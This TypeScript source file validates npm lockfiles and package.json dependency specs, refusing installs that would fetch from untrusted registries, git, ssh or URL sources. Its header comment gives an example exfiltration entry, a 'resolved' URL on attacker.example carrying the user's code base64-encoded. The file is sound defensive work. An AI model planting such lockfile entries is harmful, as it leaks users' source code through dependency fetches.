/**
 * What a candidate's lockfile may make `npm ci` fetch. The install runs with the host's network, so every URL in the
 * lockfile is a request the candidate chose: `resolved: "https://attacker.example/<the code, base64>.tgz"` would carry
 * the user's code out, and a git or ssh source runs git with the network. Only tarballs from registries the user's
 * own lockfile already uses (the parent's: an internal registry is the user's choice) and npm's public registry are
 * allowed; local links (workspaces, `link: true`) need no network and pass.
 *
 * `resolved` is not the only source: npm fetches an entry without one as `<name>@<version>` (and one with it as
 * `<name from its path>@<resolved>`), so a URL or git spec in the version, or a name carrying `@<spec>`, goes wherever
 * it points. Such an entry must name a registry version (semver, or an `npm:` alias of one) and a plain package name.
 */
import { z } from 'zod';

export const DEFAULT_REGISTRY = 'https://registry.npmjs.org';

const NAME = /^(?:@[a-z0-9~][\w.~-]*\/)?[a-z0-9~_.-][\w.~-]*$/i;
const SEMVER = /^v?\d+\.\d+\.\d+(?:-[\w.-]+)?(?:\+[\w.-]+)?$/;

/** A version npm fetches from the configured registry: an exact semver, or `npm:<name>@<semver>` (an alias). */
function registryVersion(version: string): boolean {
  const alias = /^npm:((?:@[^@/]+\/)?[^@]+)@(.+)$/.exec(version);
  return alias ? NAME.test(alias[1]) && SEMVER.test(alias[2]) : SEMVER.test(version);
}

/**
 * A dependency spec npm resolves against the registry: a range or a tag (neither has a `:` or a `/`), an `npm:` alias
 * of one, or an override's `$<dependency>` reference. Anything else (a URL, git, a github shorthand, a file) is a source.
 */
function registrySpec(spec: string): boolean {
  const alias = /^npm:((?:@[^@/]+\/)?[^@]+)(?:@(.*))?$/.exec(spec);
  if (alias) return NAME.test(alias[1]) && registrySpec(alias[2] ?? '');
  return !/[:/\\]/.test(spec) && !spec.startsWith('.');
}

const DEP_FIELDS = ['dependencies', 'devDependencies', 'optionalDependencies', 'peerDependencies', 'requires'] as const;

/** The specs of an entry's dependency maps that are not registry specs, as sources (an `overrides` tree too). */
function specSources(name: string, maps: unknown[]): Source[] {
  const found: Source[] = [];
  const visit = (value: unknown, dep: string) => {
    if (typeof value === 'string') {
      if (!registrySpec(value)) found.push({ name: `${name} (dependency ${dep})`, resolved: value, link: false });
    } else if (value && typeof value === 'object' && !Array.isArray(value)) {
      for (const [k, v] of Object.entries(value)) visit(v, k);
    }
  };
  for (const map of maps) if (map && typeof map === 'object') visit(map, name);
  return found;
}

/** The package name npm derives from a `packages` key (`node_modules/@s/a/node_modules/b` → `b`). */
function nameFromKey(key: string): string | null {
  const at = key.lastIndexOf('node_modules/');
  return at === -1 ? null : key.slice(at + 'node_modules/'.length);
}

const Entry = z.looseObject({ resolved: z.string().optional(), link: z.boolean().optional(), name: z.string().optional(), version: z.string().optional() });
const Lockfile = z.looseObject({
  packages: z.record(z.string(), z.unknown()).optional(),
  dependencies: z.record(z.string(), z.unknown()).optional(),
});

interface Source { name: string; resolved: string; link: boolean }

/** The source an entry really fetches from when it is not a plain registry tarball, else its `resolved` (or none). */
function sourceOf(name: string, names: (string | null | undefined)[], entry: z.infer<typeof Entry>): Source | null {
  if (entry.link === true) return { name, resolved: entry.resolved ?? '', link: true };
  const badName = names.find((n) => typeof n === 'string' && !NAME.test(n));
  if (badName !== undefined) return { name, resolved: badName ?? '', link: false };
  if (entry.resolved !== undefined) return { name, resolved: entry.resolved, link: false };
  if (entry.version !== undefined && !registryVersion(entry.version)) return { name, resolved: entry.version, link: false };
  return null;
}

/** Every source of a lockfile (v1 nested `dependencies`, v2/v3 `packages`), with the entry's name; null: not a lockfile. */
function sources(text: string): Source[] | null {
  let parsed: z.infer<typeof Lockfile>;
  try {
    parsed = Lockfile.parse(JSON.parse(text));
  } catch {
    return null;
  }
  const found: Source[] = [];
  for (const [key, raw] of Object.entries(parsed.packages ?? {})) {
    const entry = Entry.safeParse(raw);
    if (!entry.success) return null;
    if (key === '') { // the root is fetched from nowhere, but npm resolves its specs
      found.push(...specSources('(root)', DEP_FIELDS.map((f) => (raw as Record<string, unknown>)[f])));
      continue;
    }
    const source = sourceOf(key, [nameFromKey(key), entry.data.name], entry.data);
    if (source) found.push(source);
    if (!entry.data.link) found.push(...specSources(key, DEP_FIELDS.map((f) => (raw as Record<string, unknown>)[f])));
  }
  const walk = (deps: Record<string, unknown> | undefined): boolean => {
    for (const [name, raw] of Object.entries(deps ?? {})) {
      const entry = Entry.extend({ dependencies: z.record(z.string(), z.unknown()).optional() }).safeParse(raw);
      if (!entry.success) return false;
      const source = sourceOf(name, [name], { ...entry.data, link: undefined });
      if (source) found.push(source);
      found.push(...specSources(name, [(raw as Record<string, unknown>).requires]));
      if (!walk(entry.data.dependencies)) return false;
    }
    return true;
  };
  return walk(parsed.dependencies) ? found : null;
}

/** The origin of an http(s) URL; null for anything else (git, ssh, file, a path). */
function originOf(url: string): string | null {
  try {
    const u = new URL(url);
    return u.protocol === 'https:' || u.protocol === 'http:' ? u.origin : null;
  } catch {
    return null;
  }
}

/** The registries a lockfile fetches from (http(s) origins): what the user already trusts. */
export function trustedOrigins(...parentLockfiles: (string | null)[]): Set<string> {
  const origins = new Set([DEFAULT_REGISTRY]);
  for (const s of parentLockfiles.flatMap((text) => (text && sources(text)) || [])) {
    const origin = originOf(s.resolved);
    if (origin) origins.add(origin);
  }
  return origins;
}

/**
 * Why npm ci must not run on this lockfile, or null when every source is a tarball from a trusted registry (or a
 * local link). One line, naming the first offending package. Credentials in a URL are never echoed.
 */
export function refuseLockfile(text: string, trusted: Set<string>): string | null {
  const all = sources(text);
  return all === null ? 'the lockfile is not valid JSON' : refuseSources(all, trusted);
}

/**
 * Why npm ci must not run with this package.json (the candidate's, scripts removed): npm resolves its dependency
 * specs and `overrides` before it finds that they disagree with the lockfile, fetching from where they point.
 */
export function refusePackageJson(text: string, trusted: Set<string>): string | null {
  let pkg: unknown;
  try {
    pkg = JSON.parse(text);
  } catch {
    return null; // npm ci refuses it before resolving anything
  }
  if (!pkg || typeof pkg !== 'object') return null;
  const fields = [...DEP_FIELDS.filter((f) => f !== 'requires'), 'overrides'].map((f) => (pkg as Record<string, unknown>)[f]);
  return refuseSources(specSources('package.json', fields), trusted);
}

function refuseSources(all: Source[], trusted: Set<string>): string | null {
  for (const s of all) {
    if (s.link) continue;
    const origin = originOf(s.resolved);
    if (!origin) return `npm would fetch ${s.name} from ${JSON.stringify(s.resolved.replace(/\/\/[^/@]*@/, '//…@').slice(0, 120))}: only tarballs from a trusted registry are installed`;
    if (!trusted.has(origin)) {
      return `npm would fetch ${s.name} from ${origin}, a registry the parent's lockfile does not use (trusted: ${[...trusted].join(', ')})`;
    }
  }
  return null;
}
